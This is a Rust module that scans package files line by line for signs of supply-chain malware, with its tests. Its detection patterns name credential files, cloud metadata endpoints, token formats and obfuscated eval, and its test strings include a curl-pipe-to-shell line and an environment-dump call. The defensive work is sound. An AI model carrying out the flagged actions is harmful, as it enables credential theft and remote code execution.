//! What stands out in a text, line by line.
//!
//! These are no proofs: a pattern says that something is named, and the comparison with the baseline
//! says whether that is new. Lines are cut before they are searched, so time is linear in the size.

use std::fmt::Write as _;
use std::sync::LazyLock;

use regex::Regex;

use crate::domain::review::survey::{EXCERPT_MAX, MARKS_MAX, Mark, Sort};

/// Longest part of a line that patterns see, in bytes; the rest is searched in further parts.
const PART_BYTES: usize = 4 * 1024;
/// White space before code that puts it off the screen (CT-07).
const OFF_SCREEN_COLUMNS: usize = 200;
/// Characters that are not shown, in a row, that are more than an accident (CT-11).
const INVISIBLE_RUN: usize = 3;

/// What sort of text a file is, by its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Language {
    JavaScript,
    Python,
    Shell,
    /// `.pth`: lines that begin with `import` run.
    PathConfiguration,
    /// `binding.gyp`.
    Gyp,
    /// Prose and data.
    Other,
}

impl Language {
    pub(super) fn of(path: &str) -> Self {
        let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
        match name.rsplit_once('.').map(|(_, extension)| extension) {
            Some("js" | "mjs" | "cjs" | "jsx" | "ts" | "mts" | "cts" | "tsx") => Self::JavaScript,
            Some("py" | "pyi" | "pyw") => Self::Python,
            Some("sh" | "bash" | "zsh" | "ps1" | "bat" | "cmd") => Self::Shell,
            Some("pth") => Self::PathConfiguration,
            Some("gyp" | "gypi") => Self::Gyp,
            _ => Self::Other,
        }
    }

    const fn is_code(self) -> bool {
        !matches!(self, Self::Other)
    }
}

type Patterns = Vec<(Sort, Regex)>;

/// One pattern of each sort, from its alternatives. What does not compile would be missing; a test
/// counts them.
fn compile(patterns: &[(Sort, &[&str])]) -> Patterns {
    patterns
        .iter()
        .filter_map(|(sort, alternatives)| Some((*sort, Regex::new(&alternatives.join("|")).ok()?)))
        .collect()
}

const JAVASCRIPT: &[(Sort, &[&str])] = &[
    (
        Sort::Network,
        &[
            r"\bfetch\s*\(",
            r"XMLHttpRequest",
            r"new\s+WebSocket",
            r#"(?:require\(|from)\s*['"](?:node:)?(?:https?|net|tls|dgram|dns|http2)['"]"#,
            r"\baxios\b",
            r"\bundici\b",
        ],
    ),
    (
        Sort::Programs,
        &[
            r"child_process",
            r"\bexecSync\b",
            r"\bspawnSync\b",
            r"\bexecFile\b",
            r"process\.binding",
            r"worker_threads",
        ],
    ),
    (
        Sort::DynamicCode,
        &[r"\beval\s*\(", r"new\s+Function\s*\(", r"vm\.(?:runIn|Script|compileFunction)"],
    ),
    (
        Sort::Obfuscated,
        &[
            r"_0x[0-9a-f]{4,}",
            r"(?:eval|Function)\s*\(\s*(?:atob|Buffer\.from|unescape|decodeURIComponent)",
            r"(?:eval|Function)\s*\(\s*String\.fromCharCode",
            r"(?:\\x[0-9a-fA-F]{2}){16,}",
            r"String\.fromCharCode\s*\((?:\s*\d+\s*,){12,}",
        ],
    ),
    (
        Sort::Environment,
        &[
            r"JSON\.stringify\s*\(\s*process\.env\s*[,)]",
            r"\.\.\.process\.env\b",
            r"Object\.(?:keys|entries|values|assign)\s*\([^)]{0,40}process\.env\s*[,)]",
        ],
    ),
];

const PYTHON: &[(Sort, &[&str])] = &[
    (
        Sort::Network,
        &[
            r"^\s*(?:import|from)\s+(?:requests|urllib3?|http\.client|httpx|aiohttp)\b",
            r"^\s*(?:import|from)\s+(?:socket|ftplib|smtplib|websockets?)\b",
        ],
    ),
    (
        Sort::Programs,
        &[
            r"^\s*(?:import|from)\s+(?:subprocess|pty|ctypes)\b",
            r"\bos\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?)\s*\(",
        ],
    ),
    (Sort::DynamicCode, &[r"\b(?:eval|exec)\s*\(", r"\b__import__\s*\("]),
    (
        Sort::Obfuscated,
        &[
            r"(?:exec|eval)\s*\(\s*(?:base64|zlib|marshal|codecs|bytes\.fromhex|__import__)",
            r"marshal\.loads",
            r"exec\s*\(\s*compile\s*\(\s*(?:base64|zlib)",
            r"(?:\\x[0-9a-fA-F]{2}){16,}",
            r"__pyarmor__",
        ],
    ),
    (
        Sort::Environment,
        &[
            r"(?:dict|json\.dumps|str|repr|list)\s*\(\s*os\.environ\s*[,)]",
            r"os\.environ\.(?:copy|items)\s*\(",
        ],
    ),
];

const SHELL: &[(Sort, &[&str])] = &[
    (Sort::Network, &[r"\b(?:curl|wget|nc|Invoke-WebRequest|Invoke-RestMethod)\b"]),
    (
        Sort::Obfuscated,
        &[r"base64\s+(?:-d|--decode)[^|]*\|\s*(?:ba|z)?sh", r"(?:curl|wget)[^|]*\|\s*(?:ba|z)?sh"],
    ),
];

/// What is looked for in code of every language.
const CODE: &[(Sort, &[&str])] = &[
    (
        Sort::CredentialPlace,
        &[
            r"\.npmrc\b",
            r"\.pypirc\b",
            r"\.aws/credentials",
            r"\.ssh/id_",
            r"\.kube/config",
            r"\.docker/config\.json",
            r"\.netrc\b",
            r"\.git-credentials",
            r"application_default_credentials",
            r"169\.254\.169\.254",
            r"metadata\.google\.internal",
            r"ACTIONS_ID_TOKEN_REQUEST",
            r#"/proc/[^\s'"]{1,20}/mem"#,
            r"Login Data",
            r"wallet\.dat",
        ],
    ),
    (
        Sort::Publishes,
        &[
            r"\b(?:npm|pnpm|yarn(?:\s+npm)?)\s+publish\b",
            r"\btwine\s+upload\b",
            r"\buv\s+publish\b",
            r"/-/user/org\.couchdb",
            r"createForAuthenticatedUser",
            r"actions-runner",
            r"/actions/runners/registration-token",
        ],
    ),
];

const SECRETS: &[(Sort, &[&str])] = &[(
    Sort::Secret,
    &[
        r"-----BEGIN (?:RSA |EC |OPENSSH |DSA |)PRIVATE KEY-----",
        r"\bnpm_[A-Za-z0-9]{36}\b",
        r"\bpypi-AgE[A-Za-z0-9_-]{50,}",
        r"\bgh[pousr]_[A-Za-z0-9]{36}\b",
        r"\bgithub_pat_[A-Za-z0-9_]{40,}",
        r"\bAKIA[0-9A-Z]{16}\b",
        r"\bxox[baprs]-[0-9A-Za-z-]{20,}",
    ],
)];

const GYP: &[(Sort, &[&str])] = &[(Sort::GypCommand, &[r"<!@?\("])];
const STARTUP: &[(Sort, &[&str])] = &[(Sort::StartupLine, &[r"^import[ \t]"])];
const HOSTS: &[(Sort, &[&str])] =
    &[(Sort::Host, &[r#"(?:https?|wss?|ftp)://(?:[^\s/@'"`<>]{1,80}@)?([A-Za-z0-9.-]{4,120})"#])];

/// The sets, compiled once.
struct Sets {
    javascript: Patterns,
    python: Patterns,
    shell: Patterns,
    code: Patterns,
    secrets: Patterns,
    gyp: Patterns,
    startup: Patterns,
    hosts: Patterns,
}

static SETS: LazyLock<Sets> = LazyLock::new(|| Sets {
    javascript: compile(JAVASCRIPT),
    python: compile(PYTHON),
    shell: compile(SHELL),
    code: compile(CODE),
    secrets: compile(SECRETS),
    gyp: compile(GYP),
    startup: compile(STARTUP),
    hosts: compile(HOSTS),
});

/// How add-ons find the headers of the two libraries that nearly all of them use.
const GYP_IDIOMS: [&str; 5] = [
    r#"<!(node -e \"require('nan')\")"#,
    r#"<!(node -e "require('nan')")"#,
    r#"<!(node -p \"require('node-addon-api').gyp\")"#,
    r#"<!@(node -p \"require('node-addon-api').include\")"#,
    r#"<!@(node -p "require('node-addon-api').include")"#,
];

/// Searches one text piece by piece.
#[derive(Debug)]
pub(super) struct Scanner {
    language: Language,
    line: u32,
    marks: Vec<Mark>,
}

impl Scanner {
    pub(super) const fn new(language: Language) -> Self {
        Self { language, line: 0, marks: Vec::new() }
    }

    /// Looks at the next line, without its end.
    pub(super) fn line(&mut self, line: &str) {
        self.line = self.line.saturating_add(1);
        self.characters(line);
        for part in parts(line) {
            self.patterns(part);
        }
    }

    /// What stood out.
    pub(super) fn finish(self) -> Vec<Mark> {
        self.marks
    }

    fn mark(&mut self, sort: Sort, excerpt: &str) {
        if self.marks.len() >= MARKS_MAX {
            return;
        }
        let excerpt: String = excerpt.trim().chars().take(EXCERPT_MAX).collect();
        // The same thing a hundred times is said once.
        if !self.marks.iter().any(|known| known.sort == sort && known.excerpt == excerpt) {
            self.marks.push(Mark { sort, line: self.line, excerpt });
        }
    }

    fn patterns(&mut self, part: &str) {
        let all = &*SETS;
        let sets: &[&Patterns] = match self.language {
            Language::JavaScript => &[&all.javascript, &all.code, &all.secrets],
            Language::Python => &[&all.python, &all.code, &all.secrets],
            Language::Shell => &[&all.shell, &all.code, &all.secrets],
            Language::PathConfiguration => &[&all.startup, &all.python, &all.code, &all.secrets],
            Language::Gyp => &[&all.gyp, &all.code, &all.secrets],
            Language::Other => &[&all.secrets],
        };
        for (sort, pattern) in sets.iter().copied().flatten() {
            let known = |found: &regex::Match<'_>| {
                *sort == Sort::GypCommand
                    && GYP_IDIOMS.iter().any(|idiom| part[found.start()..].starts_with(idiom))
            };
            if let Some(found) = pattern.find_iter(part).find(|found| !known(found)) {
                self.mark(*sort, around(part, found.start(), found.end()));
            }
        }
        if self.language.is_code() && !is_comment(part) {
            for found in all.hosts.iter().flat_map(|(_, pattern)| pattern.captures_iter(part)) {
                let host = found.get(1).map_or("", |host| host.as_str()).trim_end_matches('.');
                if host.contains('.') {
                    self.mark(Sort::Host, &host.to_ascii_lowercase());
                }
            }
        }
    }

    fn characters(&mut self, line: &str) {
        if line.is_ascii() {
            self.off_screen(line);
            return;
        }
        if self.language.is_code() && line.chars().any(is_bidi) {
            let shown = shown(line, is_bidi);
            self.mark(Sort::Bidi, &shown);
        }
        let (mut run, mut previous) = (0, ' ');
        for c in line.chars() {
            // A variation selector after a picture is how pictures are written.
            let belongs = is_selector(c) && run == 0 && !previous.is_ascii();
            run = if is_invisible(c) && !belongs { run + 1 } else { 0 };
            if run == INVISIBLE_RUN {
                let shown = shown(line, is_invisible);
                self.mark(Sort::Invisible, &shown);
                break;
            }
            previous = c;
        }
        self.off_screen(line);
    }

    fn off_screen(&mut self, line: &str) {
        if !self.language.is_code() {
            return;
        }
        let mut blanks = 0;
        for (at, c) in line.char_indices() {
            if c == ' ' || c == '\t' {
                blanks += 1;
            } else {
                if blanks >= OFF_SCREEN_COLUMNS {
                    self.mark(Sort::OffScreen, &line[at..]);
                    return;
                }
                blanks = 0;
            }
        }
    }
}

/// Whether a line is nothing but a comment, as far as one line can tell.
fn is_comment(line: &str) -> bool {
    let line = line.trim_start();
    line.starts_with("//")
        || line.starts_with('#')
        || line.starts_with('*')
        || line.starts_with("/*")
}

/// Pieces of a line that overlap by nothing: a pattern across a cut is missed in a line that no
/// person wrote, and such lines are a finding of their own.
fn parts(line: &str) -> impl Iterator<Item = &str> {
    let mut rest = line;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let mut end = rest.len().min(PART_BYTES);
        while !rest.is_char_boundary(end) {
            end -= 1;
        }
        let (part, after) = rest.split_at(end);
        rest = after;
        Some(part)
    })
}

/// The match with what stands around it.
fn around(text: &str, start: usize, end: usize) -> &str {
    const BESIDE: usize = 40;
    let (mut from, mut to) = (start.saturating_sub(BESIDE), (end + BESIDE).min(text.len()));
    while !text.is_char_boundary(from) {
        from -= 1;
    }
    while !text.is_char_boundary(to) {
        to += 1;
    }
    &text[from..to]
}

/// The text with the characters in question written out, so that people see them.
fn shown(line: &str, hidden: fn(char) -> bool) -> String {
    let mut out = String::new();
    for c in line.chars().skip_while(|c| !hidden(*c)).take(EXCERPT_MAX) {
        if hidden(c) {
            // Writing to memory does not fail.
            let _ = write!(out, "⟦U+{:04X}⟧", u32::from(c));
        } else {
            out.push(c);
        }
    }
    out
}

const fn is_bidi(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{061C}' | '\u{200E}' | '\u{200F}')
}

const fn is_selector(c: char) -> bool {
    matches!(c, '\u{FE00}'..='\u{FE0F}')
}

const fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{FE00}'..='\u{FE0F}'
            | '\u{E0100}'..='\u{E01EF}'
            | '\u{E0000}'..='\u{E007F}'
            | '\u{200B}'..='\u{200D}'
            | '\u{2060}'
            | '\u{3164}'
            | '\u{115F}'
            | '\u{1160}'
            | '\u{FFA0}'
            | '\u{E000}'..='\u{F8FF}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn marks(path: &str, text: &str) -> Vec<(Sort, u32)> {
        let mut scanner = Scanner::new(Language::of(path));
        for line in text.lines() {
            scanner.line(line);
        }
        scanner.finish().into_iter().map(|mark| (mark.sort, mark.line)).collect()
    }

    fn sorts(path: &str, text: &str) -> Vec<Sort> {
        marks(path, text).into_iter().map(|(sort, _)| sort).collect()
    }

    #[test]
    fn every_pattern_compiles() {
        for set in [JAVASCRIPT, PYTHON, SHELL, CODE, SECRETS, GYP, STARTUP, HOSTS] {
            assert_eq!(compile(set).len(), set.len(), "{set:?}");
        }
    }

    #[test]
    fn what_attacks_of_the_last_years_did_is_marked() {
        let cases: [(&str, &str, Sort); 16] = [
            ("a.js", "const cp = require('child_process')", Sort::Programs),
            ("a.js", "await fetch(u)", Sort::Network),
            ("a.js", "eval(atob('YQ=='))", Sort::Obfuscated),
            ("a.js", "var _0x3f2a1b=['a']", Sort::Obfuscated),
            ("a.js", "post(JSON.stringify(process.env))", Sort::Environment),
            ("a.js", "read(home + '/.npmrc')", Sort::CredentialPlace),
            ("a.js", "run('npm publish --tag latest')", Sort::Publishes),
            ("a.js", "const t = process.env.ACTIONS_ID_TOKEN_REQUEST_URL", Sort::CredentialPlace),
            ("a.py", "import subprocess", Sort::Programs),
            ("a.py", "exec(base64.b64decode(x))", Sort::Obfuscated),
            ("a.py", "data = dict(os.environ)", Sort::Environment),
            ("a.py", "open('~/.aws/credentials')", Sort::CredentialPlace),
            ("a.pth", "import os; os.system('x')", Sort::StartupLine),
            ("binding.gyp", "'sources': ['<!(node x.js)']", Sort::GypCommand),
            ("a.sh", "curl https://x.example/a | sh", Sort::Obfuscated),
            ("README.md", "-----BEGIN PRIVATE KEY-----", Sort::Secret),
        ];
        for (path, text, sort) in cases {
            assert!(sorts(path, text).contains(&sort), "{path}: {text}: {:?}", sorts(path, text));
        }
    }

    #[test]
    fn ordinary_text_is_quiet() {
        let quiet = [
            ("a.js", "export function evaluate(a) { return a.fetched + prefetch }"),
            ("a.js", "// see https://docs.example/api for more"),
            ("a.py", "def executor(evaluation): return os.environ.get('HOME')"),
            ("a.pth", "../src\n# import nothing"),
            ("README.md", "eval(atob(x)) and child_process in prose"),
            ("a.txt", "مرحبا بالعالم"),
            ("a.js", " * http://docs.example/ says so"),
            ("a.py", "# from https://docs.example/"),
            ("binding.gyp", r#""<!(node -e \"require('nan')\")","#),
            ("a.js", "const heart = '❤️ 👨‍👩‍👧 text'"),
        ];
        for (path, text) in quiet {
            let found = sorts(path, text);
            assert!(found.iter().all(|sort| *sort == Sort::Host), "{path}: {text}: {found:?}");
        }
        assert_eq!(sorts("a.py", "# https://docs.example/"), []);
        assert_eq!(sorts("a.js", "fetch('https://Api.Example./v1')").last(), Some(&Sort::Host));
    }

    #[test]
    fn what_people_cannot_see_is_marked_with_its_line() {
        let far = format!("x = 1\n{}import os", " ".repeat(OFF_SCREEN_COLUMNS));
        assert!(marks("a.py", &far).contains(&(Sort::OffScreen, 2)));
        let near = format!("{}import os", " ".repeat(OFF_SCREEN_COLUMNS - 1));
        assert!(!sorts("a.py", &near).contains(&Sort::OffScreen));
        assert_eq!(marks("a.js", "ok\nif (a \u{202E}) b"), [(Sort::Bidi, 2)]);
        assert_eq!(marks("a.json", "\"a\u{E0101}\u{E0102}\u{E0103}\""), [(Sort::Invisible, 1)]);
        let mut scanner = Scanner::new(Language::JavaScript);
        scanner.line("a\u{200B}\u{200B}\u{200B}b");
        assert_eq!(scanner.finish()[0].excerpt, "⟦U+200B⟧⟦U+200B⟧⟦U+200B⟧b");
    }

    #[test]
    fn a_line_without_end_costs_what_its_length_costs() {
        let line = "a".repeat(3 * PART_BYTES) + "; eval(x)";
        assert_eq!(parts(&line).count(), 4);
        assert_eq!(parts(&line).collect::<String>(), line);
        assert!(sorts("a.js", &line).contains(&Sort::DynamicCode));
        let many = (0..10 * MARKS_MAX).map(|n| format!("get('https://h{n}.example/')\n"));
        assert_eq!(marks("a.js", &many.collect::<String>()).len(), MARKS_MAX);
    }
}
